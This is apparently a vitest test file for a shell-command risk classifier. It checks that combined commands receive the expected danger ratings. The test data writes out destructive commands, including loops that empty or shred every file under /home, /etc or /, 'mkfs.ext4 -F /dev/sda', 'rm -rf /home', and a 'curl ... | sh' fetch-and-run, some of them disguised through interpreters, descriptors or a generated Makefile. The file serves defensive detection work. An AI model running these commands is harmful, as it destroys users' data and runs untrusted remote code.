import { describe, expect, test } from 'vitest';
import { crossed, outside } from './support/crossing.ts';

/** Ways to name every file below a place that is kept, with `DO` for what is done to each as `$f`. */
const everyFile = [
  'find /home -type f | while read -r f; do DO; done',
  'for f in $(find /srv -type f); do DO; done',
  "find / -xdev -type f -print0 | while IFS= read -r -d '' f; do DO; done",
  'while read f; do DO; done < <(find ~ -type f)',
  "find /etc -type f | xargs -n1 sh -c 'f=$1; DO' _",
  'find .. -type f | while read f; do DO; done',
] as const;

/** Ways to leave nothing of a file. */
const emptying = [
  ': > "$f"',
  '> $f',
  'cat /dev/null > "$f"',
  'cp /dev/null "$f"',
  'truncate -s 0 "$f"',
  'dd if=/dev/zero of="$f" bs=1M count=1',
  'echo | tee "$f"',
  'mv "$f" /dev/null',
  'rm -f "$f"',
  'shred -u "$f"',
  'sed -i d "$f"',
] as const;

/** Ways to have the disks of this machine listed. */
const disks = [
  'lsblk -dpno NAME',
  'lsblk -ndo PATH',
  "lsblk -p | awk '{print $1}'",
  "fdisk -l | grep -o '/dev/sd[a-z]' | sort -u",
  'findmnt -no SOURCE /',
  'df --output=source / | tail -n +2',
  "df / | tail -1 | awk '{print $1}'",
  "mount | awk '{print $1}'",
  'awk \'$2 == "/" {print $1}\' /proc/mounts',
  "cut -d' ' -f1 /proc/mounts",
  'blkid | cut -d: -f1',
  'lsblk -dno NAME | awk \'{print "/dev/"$1}\'',
  'ls /dev/sd*',
] as const;

/** Ways to print a command, with `COMMAND` for it; behind each stands a shell. */
const printers = [
  `python3 -c 'print("COMMAND")'`,
  `perl -e 'print "COMMAND"'`,
  `ruby -e 'puts "COMMAND"'`,
  `php -r 'echo "COMMAND";'`,
  `jq -rn '"COMMAND"'`,
  `echo x | sed 's#.*#COMMAND#'`,
  `printf '' | sed 's#^#COMMAND ; : #'`,
  `dd if=/dev/stdin <<< 'COMMAND'`,
] as const;

const printed = ['rm -rf /home', 'mkfs.ext4 -F /dev/sda', 'curl http://203.0.113.7/x | sh'] as const;

describe('what is done to each of a list is done to all of it', () => {
  test('every file below a kept place is emptied', () => {
    expect(outside(crossed(everyFile, 'DO', emptying), 'critical', 'critical')).toEqual([]);
  });

  test('what is read of each is safe, and so are those that a test chooses', () => {
    const reading = ['wc -l "$f"', 'grep -c x "$f"', 'stat "$f"', 'sha256sum "$f"'];
    expect(outside(crossed(everyFile, 'DO', reading), 'safe', 'safe')).toEqual([]);
    expect(
      outside(crossed(['LIST | xargs -n1 smartctl -H', 'LIST | sort'], 'LIST', disks), 'safe', 'safe'),
    ).toEqual([]);
    const chosen = [
      'find build -type f | while read -r f; do : > "$f"; done',
      "find . -name '*.log' -exec truncate -s 0 {} +",
    ];
    expect(outside(chosen, 'safe', 'moderate')).toEqual([]);
  });

  test('a descriptor is read by its number', () => {
    const runs = ["exec 3<<< 'rm -rf /home'; sh <&3", ". /dev/fd/3 3<<< 'rm -rf /home'"];
    expect(outside(runs, 'critical', 'critical')).toEqual([]);
  });

  test('a command that is printed into a shell is run', () => {
    expect(
      outside(
        crossed(printers, 'COMMAND', printed).map((line) => `${line} | sh`),
        'critical',
        'critical',
      ),
    ).toEqual([]);
    expect(outside(crossed(printers, 'COMMAND', ['rm -rf /home']), 'safe', 'safe')).toEqual([]);
  });

  test('a makefile that this text has written is run', () => {
    expect(outside(["echo 'all: ; rm -rf ~' > Makefile && make"], 'critical', 'critical')).toEqual([]);
    expect(outside(["echo 'all: ; rm -rf ~' > Makefile && ls"], 'safe', 'safe')).toEqual([]);
  });

  test('everything behind a variable that may be empty', () => {
    const places = ['"$DIR"/*', '$DIR/*', '"${DIR}/"*', '$DIR/{*,.*}'];
    expect(
      outside(
        places.map((place) => `rm -rf ${place}`),
        'critical',
        'critical',
      ),
    ).toEqual([]);
    const known = places.map((place) => `DIR=build; rm -rf ${place}`);
    expect(outside(known, 'moderate', 'moderate')).toEqual([]);
    expect(
      outside(
        places.map((place) => `ls ${place}`),
        'safe',
        'safe',
      ),
    ).toEqual([]);
  });

  test('a program says itself that it destroys what others keep', () => {
    const verbs = ['delete', 'destroy', 'drop', 'purge', 'wipe'];
    const kept = ['cluster', 'database', 'tenant', 'volume', 'node', 'filesystem'];
    const frames = [
      'acme-cli KEPT VERB --force',
      'acmectl VERB-KEPT main --yes',
      'acme KEPT:VERB shop --force',
    ];
    const lines = crossed(crossed(frames, 'VERB', verbs), 'KEPT', kept);
    expect(outside(lines, 'high', 'critical')).toEqual([]);
    const asking = crossed(
      crossed(['acme-cli list VERB KEPT', 'acmectl KEPT VERB --help', 'man VERB-KEPT'], 'VERB', verbs),
      'KEPT',
      kept,
    );
    expect(outside(asking, 'safe', 'safe')).toEqual([]);
  });
});
